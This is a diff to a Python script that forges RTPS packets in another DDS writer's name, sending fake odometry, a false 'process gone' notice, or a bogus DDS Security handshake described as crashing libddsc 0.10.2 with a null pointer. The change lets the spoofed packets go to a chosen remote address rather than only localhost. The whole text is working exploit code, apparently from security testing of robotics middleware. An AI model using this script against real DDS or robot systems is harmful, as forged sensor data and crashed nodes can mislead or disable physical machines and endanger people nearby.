@@ -3,7 +3,8 @@
 """Sends plain RTPS as if it came from another: odometry of a frame that nobody has, from its writer; that its whole process
 is gone; or a handshake of DDS Security that is none, and a null pointer in libddsc 0.10.2.
 
-spoofed_packets.py DOMAIN WRITER odometry|gone|key     WRITER: its GUID, as the daemon says from whom it takes odometry
+spoofed_packets.py DOMAIN WRITER odometry|gone|key [ADDRESS]   WRITER: its GUID, as the daemon says from whom it takes
+odometry. ADDRESS: of the daemon's machine, 127.0.0.1 if none is given.
 """
 import socket
 import struct
@@ -48,11 +49,12 @@ def key(_writer: bytes, number: int) -> bytes:
 def main() -> int:
     domain, writer = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
     message, port = {"odometry": (odometry, 11), "gone": (gone, 10), "key": (key, 10)}[sys.argv[3]]
+    address = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for number in range(50):
         packet = b"RTPS\2\1\1\x10" + writer[:12] + message(writer, 1 << 30 | number)
         for participant in range(PARTICIPANTS):
-            out.sendto(packet, ("127.0.0.1", 7400 + 250 * domain + port + 2 * participant))
+            out.sendto(packet, (address, 7400 + 250 * domain + port + 2 * participant))
         time.sleep(0.02)
     return 0
 
